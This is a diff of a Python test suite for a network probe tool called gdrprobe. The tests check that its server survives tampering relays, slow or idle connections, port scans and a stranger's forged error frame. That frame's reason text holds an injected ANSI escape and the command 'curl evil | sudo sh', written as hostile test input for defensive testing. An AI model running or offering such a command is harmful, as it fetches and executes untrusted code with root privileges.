@@ -3,11 +3,9 @@ that tampers with sealed frames, strangers holding hundreds of connections from 
 addresses, a queue of clients, a stranger's error frame, a dead or stalled stderr, and
 input that must be refused before anything starts."""
 
-import json
 import signal
 import socket
 import subprocess
-import sys
 import threading
 import time
 
@@ -16,15 +14,19 @@ import pytest
 from gdrprobe.errors import PeerError
 from gdrprobe.measure.options import ProbeOptions
 from gdrprobe.measure.client import ProbeClient
-from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION, Channel
+from gdrprobe.measure.loops import STALL_FLOOR_S
+from gdrprobe.protocol.channel import HEADER, PROTOCOL_VERSION, Channel, plain_frame
 from gdrprobe.protocol.messages import Done, Start, Verified, send
 from gdrprobe.rdma.endpoint import EndpointOptions
-from tests.lab.helpers import (REPO, Server, client, gdrprobe, gdrprobe_json, rdma_resources,
+from tests.lab.helpers import (Server, client, gdrprobe, gdrprobe_json, rdma_resources,
                                wait_for_run)
 from tests.lab.loopback.conftest import TOKEN
 from tests.strangers import Strangers
 
 PLAIN_FRAMES = 2   # per direction before the seal: hello, auth / challenge, welcome
+# A relay gives up on a side silent this long: far past the runs' 5 s time-outs, so only a
+# relay nobody uses any more ends this way.
+RELAY_IDLE_S = 60
 
 
 def read_frame(sock: socket.socket) -> bytes | None:
@@ -50,13 +52,20 @@ class Relay:
 
     def __init__(self, server_port: int, tamper):
         self.listener = socket.create_server(("127.0.0.1", 0))
+        self.listener.settimeout(RELAY_IDLE_S)
         self.port = self.listener.getsockname()[1]
         self.server_port, self.tamper = server_port, tamper
         threading.Thread(target=self._accept, daemon=True).start()
 
     def _accept(self):
-        downstream, _ = self.listener.accept()
-        upstream = socket.create_connection(("127.0.0.1", self.server_port))
+        try:
+            downstream, _ = self.listener.accept()     # one client
+        except OSError:                                # none came: the test ended first
+            return
+        finally:
+            self.listener.close()
+        upstream = socket.create_connection(("127.0.0.1", self.server_port), timeout=RELAY_IDLE_S)
+        downstream.settimeout(RELAY_IDLE_S)
         for source, sink, direction in ((downstream, upstream, "to server"),
                                         (upstream, downstream, "to client")):
             threading.Thread(target=self._pump, args=(source, sink, direction),
@@ -129,7 +138,7 @@ def test_a_relay_that_alters_drops_replays_or_reorders_a_frame_is_detected(serve
 
 def trickle(port: int, stop: threading.Event, sent: list):
     """A stranger sending one byte of a header per second."""
-    with socket.create_connection(("127.0.0.1", port)) as sock:
+    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
         for byte in HEADER.pack(b"GDRP", PROTOCOL_VERSION, 1000) * 10:
             if stop.is_set():
                 return
@@ -142,7 +151,7 @@ def trickle(port: int, stop: threading.Event, sent: list):
 
 
 def test_idle_sockets_and_a_trickler_do_not_keep_a_client_waiting(server):
-    idle = [socket.create_connection(("127.0.0.1", server.port)) for _ in range(2)]
+    idle = [socket.create_connection(("127.0.0.1", server.port), timeout=30) for _ in range(2)]
     stop, sent = threading.Event(), []
     trickler = threading.Thread(target=trickle, args=(server.port, stop, sent), daemon=True)
     trickler.start()
@@ -209,12 +218,8 @@ def junk_from(port: int, address: str) -> None:
 def test_a_server_whose_stderr_is_not_read_keeps_serving():
     """'serve | less' at a paused page: one log line from each of 1800 addresses is far
     more than a pipe holds; the server drops what it cannot write, counts it, serves."""
-    process = subprocess.Popen(
-        [sys.executable, "-m", "gdrprobe", "serve", "--bind", "127.0.0.1", "-p", "18763",
-         "--token", TOKEN, "--timeout", "5"],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)
+    process = Server(TOKEN, port=18763, stderr=subprocess.PIPE).process
     try:
-        assert "listening" in process.stdout.readline()
         for host in range(1800):
             junk_from(18763, f"127.0.{1 + host // 250}.{1 + host % 250}")
         report = gdrprobe_json("run", "127.0.0.1", "-p", "18763", "--token", TOKEN, "-s",
@@ -239,17 +244,12 @@ def test_a_client_queued_behind_a_long_run_waits_its_turn_and_succeeds(server):
     assert first.returncode == 0, stderr
 
 
-def raw_frame(message: dict) -> bytes:
-    body = json.dumps(message).encode()
-    return HEADER.pack(b"GDRP", PROTOCOL_VERSION, len(body)) + body
-
-
 def test_a_strangers_error_frame_and_a_port_scan_do_not_end_serve_once():
     once = Server(TOKEN, port=18760, timeout=5.0, extra=("--once",))
-    socket.create_connection(("127.0.0.1", 18760)).close()          # a port scan
-    with socket.create_connection(("127.0.0.1", 18760)) as stranger:
-        stranger.sendall(raw_frame({"type": "error", "category": "NotTestable",
-                                    "reason": "owned\n\x1b[31mfix: curl evil | sudo sh"}))
+    socket.create_connection(("127.0.0.1", 18760), timeout=30).close()   # a port scan
+    with socket.create_connection(("127.0.0.1", 18760), timeout=30) as stranger:
+        stranger.sendall(plain_frame("error", category="NotTestable",
+                                     reason="owned\n\x1b[31mfix: curl evil | sudo sh"))
         time.sleep(1)
     report = gdrprobe_json("run", "127.0.0.1", "-p", "18760", "--token", TOKEN, "-s", "512",
                            "-n", "10")
@@ -260,16 +260,11 @@ def test_a_strangers_error_frame_and_a_port_scan_do_not_end_serve_once():
 
 
 def test_a_server_whose_stderr_reader_went_away_keeps_serving():
-    process = subprocess.Popen(
-        [sys.executable, "-m", "gdrprobe", "serve", "--bind", "127.0.0.1", "-p", "18761",
-         "--token", TOKEN, "--timeout", "5"],
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)
+    process = Server(TOKEN, port=18761, stderr=subprocess.PIPE).process
     try:
-        assert "listening" in process.stdout.readline()
         process.stderr.close()                               # nobody reads its log now
-        with socket.create_connection(("127.0.0.1", 18761)) as junk:
+        with socket.create_connection(("127.0.0.1", 18761), timeout=30) as junk:
             junk.sendall(b"GET / HTTP/1.1\r\n\r\n")
-            junk.settimeout(30)
             try:
                 while junk.recv(4096):   # the server hangs up (and logs why, to nobody)
                     pass
@@ -306,7 +301,7 @@ def test_a_client_that_says_done_without_writing_is_told_so_not_called_interrupt
     assert rdma_resources() == baseline
 
 
-def test_a_server_killed_during_a_latency_run_is_reported_within_5_s(server):
+def test_a_server_killed_during_a_latency_run_is_reported_before_the_stall_time_out(server):
     running = client("127.0.0.1", "--token", TOKEN, "--latency", "-s", "8", "-n", "3000000",
                      "--timeout", "5")
     wait_for_run()   # past set-up, inside the ping-pong
@@ -314,7 +309,9 @@ def test_a_server_killed_during_a_latency_run_is_reported_within_5_s(server):
     killed = time.monotonic()
     _, stderr = running.communicate(timeout=60)
     assert running.returncode == 5, stderr
-    assert time.monotonic() - killed < 5, stderr
+    # The heartbeat (or the QP) says so: waiting for the echo, the loop would only have
+    # given up at its stall time-out, which is at least STALL_FLOOR_S.
+    assert time.monotonic() - killed < STALL_FLOOR_S, stderr
     assert "went away" in stderr or "stopped acknowledging" in stderr, stderr
 
 
